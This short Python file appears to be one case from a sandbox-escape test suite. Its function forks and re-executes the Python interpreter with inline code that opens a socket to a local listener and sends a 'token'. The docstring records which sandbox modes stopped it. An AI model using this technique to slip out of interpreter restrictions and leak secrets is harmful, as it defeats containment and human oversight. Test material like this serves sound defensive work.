"""Becomes another program, which is under no rule that an interpreter keeps, and has that reach a listener.

Seen: the token arrives.
Stopped at: strict, standard.
Verdict: wrong, raised, killed, exited.
"""
import os
import sys


def attack():
    text = f"import socket; socket.create_connection(('127.0.0.1', {target.tcp}), 2).sendall({target.token!r})"
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", text])
    os.wait()
